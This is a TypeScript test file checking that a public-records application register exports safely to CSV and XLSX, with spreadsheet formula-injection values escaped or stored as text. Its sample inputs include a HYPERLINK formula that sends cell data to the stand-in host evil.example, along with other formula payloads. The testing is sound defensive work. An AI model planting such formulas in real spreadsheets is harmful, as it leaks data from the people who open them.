/**
 * The application register as a spreadsheet: what an applicant typed on the public form must
 * never run as a formula when a clerk opens the export, and dates are dates.
 */
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { ServiceContext } from '../../src/services/context.js';
import { TestClient, TestClock, testApp, testContext } from '../support/app.js';
import { agencyIdByName, makeClerk, personApplication } from '../support/applications.js';
import { describeEachStore } from '../support/stores.js';
import { bootstrapDemo } from '../support/accounts.js';

const PASSWORD = 'Register-pass-2026';

/** Parses one CSV line of the register (quoted fields with doubled quotes). */
function csvFields(line: string): string[] {
  const fields: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let value = '';
      i++;
      while (i < line.length) {
        if (line[i] === '"' && line[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (line[i] === '"') {
          i++;
          break;
        } else value += line[i++];
      }
      fields.push(value);
      i++;
    } else {
      const end = line.indexOf(',', i);
      fields.push(line.slice(i, end === -1 ? line.length : end));
      i = end === -1 ? line.length + 1 : end + 1;
    }
  }
  return fields;
}

describeEachStore('applications: the register export is safe to open', (getStore) => {
  let app: FastifyInstance;
  let ctx: ServiceContext;
  let clerk: TestClient;
  let agencyId: string;
  const clock = new TestClock(new Date('2026-03-02T02:00:00Z'));
  const base = () => `/api/v1/agencies/${agencyId}`;

  /** What a hostile applicant may type: each starts with a character a spreadsheet evaluates. */
  const HOSTILE = [
    { name: '=HYPERLINK("http://evil.example/?x="&A1,"点我")', description: '普通描述' },
    { name: '@SUM(1+1)*cmd', description: '+1+1' },
    { name: '-2+3', description: '\t=1+1' },
    { name: '李申请', description: '\r=1+1 开头是回车' },
  ];

  beforeAll(async () => {
    ctx = testContext(getStore().store, clock);
    await bootstrapDemo(ctx);
    agencyId = await agencyIdByName(ctx, '示范市科学技术局');
    await makeClerk(ctx, agencyId, 'wang', PASSWORD, '王经办');
    app = await testApp(ctx);
    clerk = new TestClient(app);
    await clerk.loginReady('wang', PASSWORD);
    for (const h of HOSTILE) {
      const r = await clerk.request('POST', `${base()}/applications`, {
        ...personApplication(h),
        channel: 'letter',
        receivedOn: '2026-02-27',
      });
      expect(r.statusCode, r.body).toBe(201);
    }
  });
  afterAll(async () => app?.close());

  it('CSV: a cell starting with = + - @ tab or CR is prefixed with an apostrophe', async () => {
    const csv = await clerk.request('GET', `${base()}/application-register.csv?year=2026`);
    expect(csv.statusCode).toBe(200);
    const text = csv.rawPayload.toString('utf8').replace(/^\uFEFF/, '');
    // Fields may contain CR/LF inside quotes: split records on CRLF outside quotes only.
    const records: string[] = [];
    let current = '';
    let quoted = false;
    for (let i = 0; i < text.length; i++) {
      const c = text[i]!;
      if (c === '"') quoted = !quoted;
      if (!quoted && c === '\r' && text[i + 1] === '\n') {
        records.push(current);
        current = '';
        i++;
      } else current += c;
    }
    const rows = records.map(csvFields);
    const header = rows[0]!;
    const nameAt = header.indexOf('申请人');
    const descriptionAt = header.indexOf('所需信息');
    const cells = rows.slice(1).flatMap((r) => [r[nameAt]!, r[descriptionAt]!]);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain(`'${HOSTILE[0]!.name}`);
    expect(cells).toContain(`'@SUM(1+1)*cmd`);
    expect(cells).toContain(`'+1+1`);
    expect(cells).toContain(`'-2+3`);
    // Leading tab and CR are trimmed by intake; what remains starts with = and is escaped.
    expect(cells).toContain(`'=1+1`);
    expect(cells).toContain(`'=1+1 开头是回车`);
    // Harmless text is left exactly as typed.
    expect(cells).toContain('普通描述');
    expect(cells).toContain('李申请');
  });

  it('XLSX: typed text is stored as text (never a formula), unchanged; dates are date cells', async () => {
    const xlsx = await clerk.request('GET', `${base()}/application-register.xlsx?year=2026`);
    expect(xlsx.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('申请登记台账')!;
    const header = (sheet.getRow(1).values as unknown[]).map(String);
    const col = (name: string) => header.indexOf(name);
    const names: unknown[] = [];
    for (let r = 2; r <= sheet.rowCount; r++) {
      const cell = sheet.getRow(r).getCell(col('申请人'));
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      names.push(cell.value);
      const received = sheet.getRow(r).getCell(col('收到日期'));
      expect(received.type).toBe(ExcelJS.ValueType.Date);
      expect((received.value as Date).toISOString().slice(0, 10)).toBe('2026-02-27');
      expect(received.numFmt).toBe('yyyy-mm-dd');
      const due = sheet.getRow(r).getCell(col('答复期限'));
      expect(due.type).toBe(ExcelJS.ValueType.Date);
      // 2026-02-27 (Friday): 20 working days from the next day → 2026-03-26.
      expect((due.value as Date).toISOString().slice(0, 10)).toBe('2026-03-26');
    }
    expect(names).toContain(HOSTILE[0]!.name);
    expect(names).toContain('@SUM(1+1)*cmd');
  });
});
